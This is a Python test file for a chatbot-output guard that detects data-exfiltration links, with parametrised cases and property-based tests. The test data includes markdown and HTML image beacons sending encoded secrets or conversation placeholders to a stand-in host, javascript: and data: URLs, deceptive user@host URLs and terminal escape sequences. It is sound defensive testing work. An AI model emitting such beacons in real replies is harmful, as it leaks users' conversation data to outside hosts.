"""Links that carry data out, and the many that do not."""

import base64

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from chatward.core.normalise import plain
from chatward.core.text import Reading
from chatward.core.values import Category, Finding, Moment
from chatward.engine.scanner import Scanner
from chatward.guards.links.exfiltration import ExfiltrationGuard, host_of

GUARD = ExfiltrationGuard()
SCANNER = Scanner(GUARD.rules)
SECRET = "the password is swordfish"
B64 = base64.urlsafe_b64encode(SECRET.encode()).decode().rstrip("=")
HEX = SECRET.encode().hex()
B32 = base64.b32encode(b"password swordfish 12").decode().rstrip("=").lower()


def found(text: str) -> dict[str, float]:
    """Rule name -> highest confidence."""
    best: dict[str, float] = {}
    for finding in SCANNER.scan(Reading(text, plain(text))):
        name = finding.rule.partition("/")[2]
        best[name] = max(best.get(name, 0), finding.confidence)
    return best


def acted_on(text: str) -> set[str]:
    return {name for name, confidence in found(text).items() if confidence >= 0.5}


@pytest.mark.parametrize(
    ("text", "rule", "confidence"),
    [
        ("![](https://c.example/p.png)", "image", 0.7),
        ("![a chart](https://c.example/chart.png)", "image", 0.7),
        ("![a](//c.example/chart.png)", "image", 0.7),
        ("![a](<https://c.example/chart.png>)", "image", 0.7),
        ("![a](\nhttps://c.example/chart.png)", "image", 0.7),
        ("![a](http:\\\\c.example/x.png)", "image", 0.7),
        ("![a](&#104;ttps://c.example/x.png)", "image", 0.7),
        ("![a](HTTPS://C.EXAMPLE/x.png)", "image", 0.7),
        (f"![a](https://c.example/p.png?d={B64})", "image", 0.9),
        ("![a](https://c.example/p.png?q=she+lives+in+rome)", "image", 0.9),
        ("![a](https://c.example/{{conversation}}.png)", "image", 0.9),
        ("![a](https://c.example/p?m=[EMAIL_1])", "image", 0.9),
        ("![a](javascript:alert(1))", "image", 0.8),
        ("![a[b]c](https://c.example/p.png)", "link", 0.7),
        ("![a][beacon]\n\n[beacon]: https://c.example/p.png", "reference-image", 0.7),
        ("![beacon][]", "reference-image", 0.7),
        ('<img src="https://c.example/p.png">', "html", 0.7),
        ("<img/src=https://c.example/p.png>", "html", 0.7),
        ("<IMG alt=x SRC='//c.example/p.png'/>", "html", 0.7),
        ('<img src="ht\ntps://c.example/p.png">', "html", 0.7),
        ('<img srcset="https://c.example/p.png 2x">', "html", 0.7),
        (f'<img src="https://c.example/{HEX}">', "html", 0.9),
        ('<iframe src="https://c.example/"></iframe>', "html", 0.7),
        ('<video poster="https://c.example/p.png">', "html", 0.7),
        ('<script src="https://c.example/x.js">', "html", 0.45),
        ('<link rel="stylesheet" href="https://c.example/x.css">', "html", 0.45),
        (f'<link rel="prefetch" href="https://c.example/x?d={B64}">', "html", 0.9),
        ('<meta http-equiv="refresh" content="0; url=https://c.example/">', "html", 0.45),
        (f'<div style="background:url(https://c.example/?{HEX})">', "html", 0.9),
        ('<a href="javascript:alert(1)">x</a>', "html", 0.8),
        ('<a href="java\nscript:alert(1)">x</a>', "html", 0.8),
        ('<a href="javascript&#58;alert(1)">x</a>', "html", 0.8),
        ("<img " + "x" * 400 + " src=https://c.example/>", "html", 0.6),
        ("body { background: url('https://c.example/a.png') }", "stylesheet", 0.45),
        (f'@import "https://c.example/a.css?{B64}";', "stylesheet", 0.9),
        (f"[more](https://c.example/?d={B64})", "link", 0.9),
        (f"[more](https://c.example/{HEX}/x)", "link", 0.9),
        (f"[more]: https://c.example/?d={B64}", "link", 0.9),
        ("[more](javascript:fetch('//c.example'))", "link", 0.8),
        ("[more](data:text/html,<script>)", "link", 0.8),
        (f"see https://c.example/x?data={B64} now", "url", 0.9),
        (f"see https://c.example/{B64}", "url", 0.9),
        (f"<https://c.example/x?{HEX}|click>", "url", 0.9),
        (f"https://{HEX[:40]}.{HEX[40:]}.c.example/", "url", 0.9),
        (f"https://{B32}.c.example/", "url", 0.9),
        ("https://4fzqk2v7h5m3x6w2t7bq5rj2n6c4d3ae.c.example/", "url", 0.7),
        ("https://c.example/s/w/o/r/d/f/i/s/h/", "url", 0.8),
        ("https://c.example/?x=%73%77%6f%72%64%66%69%73%68", "url", 0.9),
        ("https://c.example/?note=" + "+".join(["word"] * 14), "url", 0.6),
        ("https://c.example/?to=ada@example.org", "url", 0.6),
        ("https://c.example/?h={conversation_history}", "url", 0.8),
        ("https://c.example/?a={name}&b={mail}&c={street}", "url", 0.6),
        ("https://c.example/?mail=[EMAIL_1]", "url", 0.6),
        ("https://c.example/?m=ann@mail.example2", "url", 0.6),
        ("https://zoom.us.c.example/j/1?pwd=Tm9KZEtYd2JoV1N6VDNRMg", "url", 0.9),
        ("https://zoom.us/j/1?q=Tm9KZEtYd2JoV1N6VDNRMg", "url", 0.9),
        ("https://c.example/?x=" + "Zk3-" * 60, "url", 0.6),
        ("https://c.example/?" + "&".join(f"a{n}=b{n}" for n in range(60)), "url", 0.6),
        ("http:\\\\other.example\\@bank.example", "confusing-url", 0.85),
        ("https://bank.example@other.example/login", "confusing-url", 0.85),
        ("https://bank.example:pw@other.example/", "confusing-url", 0.85),
        ("<javascript:alert(1)>", "active-url", 0.8),
        ("open data:text/html;base64,PHNjcmlwdD4", "active-url", 0.8),
        ("\x1b]8;;https://c.example\x07here", "terminal-escape", 0.95),
        ("\x1b]52;c;aGk=\x07", "terminal-escape", 0.95),
        ("\x1b[2J", "terminal-escape", 0.8),
        ("\x1b[31mred", "terminal-escape", 0.4),
    ],
)
def test_what_carries_out_loads_runs_or_lies(text: str, rule: str, confidence: float) -> None:
    assert found(text).get(rule) == pytest.approx(confidence)


@pytest.mark.parametrize(
    "text",
    [
        "See https://docs.example.com/guide/getting-started.html#install.",
        "[the docs](https://docs.example.com/en/stable/reference/api_documentation_overview)",
        "https://shop.example/p/blue-suede-shoes-size-42?utm_source=news&utm_campaign=spring_sale_2025_teaser",
        "https://shop.example/?gclid=CjwKCAjw1emzBhB8EiwAHwZZxd2Q8kfPzKQ9vYyq9KxVtQwMZ4T0rC1sBoC0HkQAvD_BwE",
        "Your order: https://shop.example/orders/84311-22?lang=en",
        "https://code.example/o/r/commit/9b3f0c1d2e4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c",
        "https://docs.example/document/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit",
        "https://search.example/?q=how+to+bake+bread+without+yeast+at+home",
        "https://de.wiki.example/wiki/K%C3%B6ln_(Begriffskl%C3%A4rung)",
        "https://ja.wiki.example/wiki/%E6%9D%B1%E4%BA%AC%E3%82%BF%E3%83%AF%E3%83%BC",
        "https://id.example/550e8400-e29b-41d4-a716-446655440000",
        "https://img.example/sha256/e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "https://d111111abcdef8.cdn.example/a.css",
        "https://my-app-git-feature-login-team.pages.example/",
        "https://bucket.s3.example/f.zip?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=EX%2F20250101&"
        + "X-Amz-Signature="
        + "9f" * 32
        + "&X-Amz-Security-Token="
        + "aB3" * 90,
        "GET https://api.example.com/users/{id}/orders/{order}",
        "https://git@code.example/owner/repo.git",
        "https://xn--80ak6aa92e.example/",
        "https://video.example/watch?v=dQw4w9WgXcQ&t=42s",
        "https://map.example/@48.8583701,2.2944813,17z",
        "https://news.example/2025/03/14/a-long-headline-about-the-weather-in-the-north-of-the-country/",
        "https://cdn.example/npm/bootstrap@5.3.0/dist/css/bootstrap.min.css",
        "https://cdn.example/npm/react@18.2.0-rc.1/index.js",
        "https://teams.example/l/meetup-join/19%3ameeting_abc%40thread.v2/0",
        "https://us02web.zoom.us/j/81234567890?pwd=Tm9KZEtYd2JoV1N6VDNRMg",
        "Wow![1] That is JavaScript: the language. Data: text/html is a type.",
        "items[0](x) and a[b]: c",
        "[ref]: ./local/file.md",
        "![local](images/cat.png)",
        "![chart](data:image/png;base64,iVBORw0KGgoAAAANSUhEUg)",
        '<img src="cat.png" alt="a cat">',
        '<a href="https://docs.example.com/">docs</a>',
        '<a href="/account?tab=orders">orders</a>',
        "<div class='x'>1 < 2 and 3 > 2</div>",
        "background: url(img/paper.gif)",
        "a table <td width=3>cell</td>",
        "mail ada@example.org or visit www.example.org",
        "C:\\Users\\ada\\file.txt and \\\\server\\share",
        "print('\\x1b[31m')",
    ],
)
def test_ordinary_links_pass(text: str) -> None:
    assert acted_on(text) == set()


def test_code_with_scripts_and_styles_stays_below_the_usual_threshold() -> None:
    page = '<head><script src="https://cdn.example/chart.js"></script><link href="https://cdn.example/a.css"></head>'
    assert acted_on(page) == set()
    assert set(found(page)) == {"html"}


def test_the_span_takes_the_whole_image_and_no_more() -> None:
    text = f'Here: ![x](https://c.example/?d={B64}{"A" * 900} "t") and more.'
    spans = {f.rule: text[slice(*f.span)] for f in SCANNER.scan(Reading(text, plain(text)))}
    image = spans["links.exfiltration/image"]
    assert image.startswith("![x](")
    assert image.endswith('"t")')


def test_an_image_that_never_ends_does_not_swallow_the_answer() -> None:
    text = "![x](https://c.example/a.png\nThe rest is an answer."
    (finding,) = SCANNER.scan(Reading(text, plain(text)))
    assert text[finding.span[1] :] == "The rest is an answer."


def test_findings_are_links_of_the_guard_on_replies_only() -> None:
    assert GUARD.spec.moments == {Moment.OUTPUT}
    for rule in GUARD.rules:
        assert rule.guard == GUARD.spec.id == "links.exfiltration"
        assert rule.category is Category.LINK
        assert rule.entity == ""
        assert rule.detail
        assert rule.summary
    assert GUARD.spec.look_ahead is not None
    assert SCANNER.look_ahead <= GUARD.spec.look_ahead


PIECES = st.sampled_from(
    ["![", "a", "](", "https://", "c.example", "/", "?d=", B64, ")", " ", "\n", "<img ", "src=", '"', ">", "\\", "@"]
)


@given(st.lists(PIECES, max_size=25), st.data())
def test_splitting_a_stream_changes_nothing(pieces: list[str], data: st.DataObject) -> None:
    text = "".join(pieces)
    cuts = sorted(data.draw(st.sets(st.integers(0, len(text)), max_size=8)))
    stream = SCANNER.stream()
    streamed: list[Finding] = []
    for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True):
        streamed += stream.feed(text[start:end], False)
    streamed += stream.feed("", True)
    whole = SCANNER.scan(Reading(text, plain(text)))
    assert sorted(streamed, key=repr) == sorted(whole, key=repr)


@given(st.text(min_size=12, max_size=60, alphabet="abcdefghijklmnopqrstuvwxyz "), st.sampled_from(["64", "16", "32"]))
def test_any_encoded_sentence_in_a_link_is_found(sentence: str, base: str) -> None:
    encoded = {
        "64": base64.urlsafe_b64encode(sentence.encode()).decode().rstrip("="),
        "32": base64.b32encode(sentence.encode()).decode().rstrip("="),
        "16": sentence.encode().hex(),
    }[base]
    assert acted_on(f"[x](https://c.example/?d={encoded})")
    assert acted_on(f"https://c.example/a/{encoded}/b")


@given(st.binary(min_size=16, max_size=32))
def test_random_ids_in_a_link_are_not_data(identifier: bytes) -> None:
    assume(sum(32 <= byte < 127 for byte in identifier) < len(identifier) * 0.8)
    assert not acted_on(f"https://c.example/i/{identifier.hex()}?state={identifier.hex()}")


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("![a](https://C.Example/x.png)", "c.example"),
        ("![a](//c.example/x.png)", "c.example"),
        ("![a](http:\\\\c.example\\@good.example)", "c.example"),
        ("https://good.example@c.example/", "c.example"),
        ("https://good.example.@c.example./x", "c.example"),
        ("http://0x7f.1/x", "127.0.0.1"),
        ("http://[::ffff:7f00:1]/", "127.0.0.1"),
        ("http://①②⑦.0.0.1/", "127.0.0.1"),
        ('<img src="&#104;ttps://c.example/x">', "c.example"),
        ('<img src="https://c.example/x" srcset="https://good.example/y 2x">', None),
        ("![a](images/x.png)", None),
        ("[a](javascript:location='https://good.example')", None),
        ("https://good.example/?u=https://c.example", "good.example"),
        ("https://[bad", None),
    ],
)
def test_the_host_for_allow_lists(text: str, host: str | None) -> None:
    assert host_of(text) == host
